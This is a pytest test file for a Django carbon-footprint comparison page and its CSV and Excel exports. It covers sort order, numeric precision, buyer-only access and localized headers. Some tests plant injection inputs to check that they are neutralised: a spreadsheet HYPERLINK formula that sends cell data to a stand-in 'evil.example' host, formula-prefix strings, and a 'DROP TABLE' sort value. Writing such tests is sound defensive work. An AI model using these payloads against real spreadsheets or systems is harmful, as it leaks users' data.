"""The buyer's comparison page and its CSV and Excel exports: the same rows in the same order, full precision in
the files, units in the headers, no formula let through, and nothing for anyone but a buyer.

Expected numbers (tests/exchange/test_comparison.py works them out from the inputs): Hangzhou E = 120.31025
(Em 120, Ep 0.31025), Suzhou E = 113.775625 (Em 113, Ep 0.775625), kg CO2e per piece.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from apps.accounts.enums import Role
from apps.web.views.comparison import formula_safe
from tests import factories
from tests.exchange.builders import build_exchange
from tests.exchange.verification_builders import (
    add_supplier,
    grant,
    make_verifier,
    record_statement,
    submit_and_accept,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def two(library):
    hangzhou = build_exchange(factories.make_organization(name="Hangzhou Meters"), library)
    suzhou = add_supplier(
        hangzhou, library, name="Suzhou Instruments", units_produced="400", material_32_quantity="0.5"
    )
    first, second = submit_and_accept(hangzhou), submit_and_accept(suzhou)
    return hangzhou, suzhou, first, second


def _client(user) -> Client:
    client = Client()
    client.cookies["django_language"] = "en"
    client.force_login(user)
    return client


def _csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())  # Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _sheet(response):
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return load_workbook(io.BytesIO(response.content)).active


# -- the page ----------------------------------------------------------------------------------------------------


def test_the_page_lists_the_accepted_footprints_by_e_with_a_chart(two):
    hangzhou, _suzhou, first, second = two

    response = _client(hangzhou.reviewer).get(reverse("web:comparison"))

    assert response.status_code == 200
    html = response.content.decode()
    assert html.index("Suzhou Instruments") < html.index("Hangzhou Meters")
    # Four significant digits on the page, the full value in the cell's title.
    assert 'title="113.775625">113.8</td>' in html and 'title="120.31025">120.3</td>' in html
    assert 'title="0.775625">0.7756</td>' in html and 'title="0.31025">0.3103</td>' in html
    assert "E (kg CO2e)" in html and "Em (kg CO2e)" in html and "Ep (kg CO2e)" in html
    assert "26. " in html and "11.6 %" in html  # 14 / 120.31025 = 11.64 %
    assert "Not verified" in html
    assert reverse("web:submission-detail", args=[first.uuid]) in html
    assert reverse("web:submission-detail", args=[second.uuid]) in html
    # The chart: one stacked bar per row, in the table's order, E = Em + Ep.
    chart = html.split('<figure class="chart chart-comparison">', 1)[1].split("</figure>", 1)[0]
    assert chart.startswith("<svg") and "<script" not in chart
    assert chart.index('data-value="113.775625"') < chart.index('data-value="120.31025"')
    assert 'data-value="113"' in chart and 'data-value="0.775625"' in chart
    assert "Em: raw-material acquisition" in chart and "Ep: manufacturing" in chart
    # The exports keep the page's product type and sort.
    assert reverse("web:comparison-csv") + "?product_type=Single-phase+smart+meter&amp;sort=e" in html


def test_the_page_sorts_by_the_column_asked_for(two):
    hangzhou, *_rest = two
    client = _client(hangzhou.reviewer)

    descending = client.get(reverse("web:comparison"), {"sort": "-e"}).content.decode()
    assert descending.index("Hangzhou Meters") < descending.index("Suzhou Instruments")
    assert 'aria-sort="descending"' in descending
    by_ep = client.get(reverse("web:comparison"), {"sort": "ep"}).content.decode()
    assert by_ep.index("Hangzhou Meters") < by_ep.index("Suzhou Instruments")
    # The header of the sorted column links to the other direction.
    assert "?product_type=Single-phase+smart+meter&amp;sort=-ep" in by_ep
    unknown = client.get(reverse("web:comparison"), {"sort": "price; DROP TABLE"}).content.decode()
    assert unknown.index("Suzhou Instruments") < unknown.index("Hangzhou Meters")


def test_the_product_type_select_lists_the_buyers_types(two, library):
    hangzhou, *_rest = two
    ningbo = add_supplier(hangzhou, library, name="Ningbo Three-Phase", product_type="Three-phase smart meter")
    submit_and_accept(ningbo)
    client = _client(hangzhou.reviewer)

    # The page opens on the type accepted last (Ningbo's); the other is one choice away.
    default = client.get(reverse("web:comparison")).content.decode()
    assert '<option value="Three-phase smart meter" selected>' in default
    assert '<option value="Single-phase smart meter">' in default
    assert "Ningbo Three-Phase" in default

    chosen = client.get(reverse("web:comparison"), {"product_type": "Single-phase smart meter"}).content.decode()
    assert "Hangzhou Meters" in chosen and "Ningbo Three-Phase" not in chosen


def test_a_verified_footprint_shows_its_level_of_assurance(two):
    hangzhou, _suzhou, first, second = two
    verifier = make_verifier()
    grant(hangzhou, first, verifier)
    record_statement(factories.make_member(verifier, role=Role.VERIFIER), verifier, first, assurance_level="limited")

    html = _client(hangzhou.reviewer).get(reverse("web:comparison")).content.decode()

    row = html.split(f'id="footprint-{first.uuid}"', 1)[1].split("</tr>", 1)[0]
    assert "Limited assurance" in row
    other = html.split(f'id="footprint-{second.uuid}"', 1)[1].split("</tr>", 1)[0]
    assert "Not verified" in other


def test_a_buyer_with_nothing_accepted_sees_an_empty_comparison(supplier, library):
    exchange = build_exchange(supplier, library)
    exchange.submit()  # submitted, not accepted

    html = _client(exchange.reviewer).get(reverse("web:comparison")).content.decode()

    assert "No accepted footprint of “Single-phase smart meter” yet." in html
    assert "<svg" not in html


def test_only_a_buyer_has_a_comparison(two):
    hangzhou, *_rest = two
    verifier = make_verifier()
    others = [
        hangzhou.supplier_manager,
        hangzhou.supplier_editor,
        factories.make_member(verifier, role=Role.VERIFIER),
    ]
    for user in others:
        client = _client(user)
        for name in ("web:comparison", "web:comparison-csv", "web:comparison-xlsx"):
            assert client.get(reverse(name)).status_code == 404, (user, name)
    viewer = factories.make_member(hangzhou.buyer, role=Role.VIEWER)
    assert _client(viewer).get(reverse("web:comparison")).status_code == 200


def test_another_buyer_does_not_see_these_footprints(two, library):
    _hangzhou, *_rest = two
    elsewhere = build_exchange(factories.make_organization(name="Elsewhere Meters"), library)

    html = _client(elsewhere.reviewer).get(reverse("web:comparison")).content.decode()

    assert "Hangzhou Meters" not in html and "Suzhou Instruments" not in html


def _page_queries(client) -> int:
    from django.core.cache import cache

    cache.clear()
    with CaptureQueriesContext(connection) as queries:
        assert client.get(reverse("web:comparison")).status_code == 200
    return len(queries)


def test_the_page_makes_as_many_queries_for_four_rows_as_for_two(two, library):
    hangzhou, *_rest = two
    client = _client(hangzhou.reviewer)
    two_rows = _page_queries(client)
    for index in range(2):
        submit_and_accept(add_supplier(hangzhou, library, name=f"Extra Meters {index}"))

    assert _page_queries(client) == two_rows


# -- the exports -------------------------------------------------------------------------------------------------

HEADERS = [
    "Supplier",
    "Product model code",
    "Product",
    "Reporting period start",
    "Reporting period end",
    "Declared unit",
    "Version",
    "E (kg CO2e per declared unit)",
    "Em (kg CO2e per declared unit)",
    "Ep (kg CO2e per declared unit)",
    "Contributor 1",
    "Contributor 1: share of E (0 to 1)",
    "Contributor 2",
    "Contributor 2: share of E (0 to 1)",
    "Contributor 3",
    "Contributor 3: share of E (0 to 1)",
    "Primary data: share of E (0 to 1)",
    "Verified",
    "Level of assurance",
    "Opinion",
    "Date of the statement",
]


def test_the_csv_has_the_pages_rows_at_full_precision(two):
    hangzhou, suzhou, first, second = two
    verifier = make_verifier()
    grant(suzhou, second, verifier)
    record_statement(factories.make_member(verifier, role=Role.VERIFIER), verifier, second)

    response = _client(hangzhou.reviewer).get(reverse("web:comparison-csv"))

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="comparison-single-phase-smart-meter.csv"'
    header, *rows = _csv_rows(response)
    assert header == HEADERS
    assert [row[0] for row in rows] == ["Suzhou Instruments", "Hangzhou Meters"]
    suzhou_row, hangzhou_row = rows
    # The strings the engine stored in the snapshots, digit for digit.
    assert (
        suzhou_row[7:10]
        == [second.result.totals[key] for key in ("e", "em", "ep")]
        == ["113.775625", "113", "0.775625"]
    )
    assert (
        hangzhou_row[7:10] == [first.result.totals[key] for key in ("e", "em", "ep")] == ["120.31025", "120", "0.31025"]
    )
    assert hangzhou_row[1] == hangzhou.study.product.model_code and hangzhou_row[2] == "Single-phase smart meter"
    assert hangzhou_row[3:7] == ["2025-01-01", "2025-01-31", "piece", "1"]
    assert hangzhou_row[10].startswith("26. ")
    assert hangzhou_row[11] == format(Decimal(14) / Decimal("120.31025"), "f")
    assert hangzhou_row[16] == first.result.primary_data_share
    assert suzhou_row[17:] == [
        "Yes",
        "Reasonable assurance",
        "Unmodified (the footprint is fairly stated)",
        "2025-02-20",
    ]
    assert hangzhou_row[17:] == ["No", "", "", ""]


def test_the_exports_follow_the_pages_sort(two):
    hangzhou, *_rest = two
    client = _client(hangzhou.reviewer)

    rows = _csv_rows(client.get(reverse("web:comparison-csv"), {"sort": "-e"}))[1:]
    assert [row[0] for row in rows] == ["Hangzhou Meters", "Suzhou Instruments"]
    sheet = _sheet(client.get(reverse("web:comparison-xlsx"), {"sort": "-e"}))
    assert [sheet.cell(row=r, column=1).value for r in (2, 3)] == ["Hangzhou Meters", "Suzhou Instruments"]


def test_the_workbook_holds_numbers_with_a_four_digit_format(two):
    hangzhou, *_rest = two

    response = _client(hangzhou.reviewer).get(reverse("web:comparison-xlsx"))

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="comparison-single-phase-smart-meter.xlsx"'
    sheet = _sheet(response)
    assert [cell.value for cell in sheet[1]] == HEADERS
    assert sheet.cell(row=2, column=1).value == "Suzhou Instruments"
    e = sheet.cell(row=2, column=8)
    assert e.data_type == "n" and e.value == pytest.approx(113.775625, abs=0) and e.number_format == "0.0"
    assert sheet.cell(row=3, column=8).value == 120.31025
    ep = sheet.cell(row=3, column=10)
    assert ep.value == 0.31025 and ep.number_format == "0.0000"  # 0.3103 shown, 0.31025 kept
    share = sheet.cell(row=3, column=12)
    assert share.value == pytest.approx(float(Decimal(14) / Decimal("120.31025")), rel=1e-15)
    assert share.number_format == "0.0%"
    assert sheet.cell(row=3, column=4).value.date().isoformat() == "2025-01-01"
    assert sheet.cell(row=3, column=7).value == 1


def test_a_supplier_named_like_a_formula_is_written_as_text(library):
    evil = build_exchange(factories.make_organization(name=HYPERLINK), library)
    submit_and_accept(evil)
    at_sign = add_supplier(evil, library, name="@SUM(1+1)", units_produced="400")
    submit_and_accept(at_sign)
    client = _client(evil.reviewer)

    rows = _csv_rows(client.get(reverse("web:comparison-csv"), {"sort": "supplier"}))[1:]
    assert [row[0] for row in rows] == ["'" + HYPERLINK, "'@SUM(1+1)"]

    sheet = _sheet(client.get(reverse("web:comparison-xlsx"), {"sort": "supplier"}))
    for row, name in ((2, HYPERLINK), (3, "@SUM(1+1)")):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s" and cell.value == name
    # Nothing in the workbook is a formula.
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)

    html = client.get(reverse("web:comparison")).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click&quot;)" in html


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tcmd", "\rcmd"])
def test_every_formula_prefix_is_neutralized_in_csv_text(text):
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["Hangzhou Meters", "1+1", "杭州仪表", ""])
def test_other_text_is_left_alone(text):
    assert formula_safe(text) == text


def test_the_export_headers_are_in_the_users_language(two):
    hangzhou, *_rest = two
    client = _client(hangzhou.reviewer)
    client.cookies["django_language"] = "zh-hans"

    header = _csv_rows(client.get(reverse("web:comparison-csv")))[0]
    sheet = _sheet(client.get(reverse("web:comparison-xlsx")))

    assert header[1] == "产品型号"
    assert header[7].startswith("E（") and "kg CO2e" in header[7] and "declared unit" not in header[7]
    assert header[10] == "贡献项 1" and header[11] == "贡献项 1：占 E 的比例（0 至 1）"
    assert header[17] == "已核查"
    assert [cell.value for cell in sheet[1]] == header
    assert sheet.title == "对比"
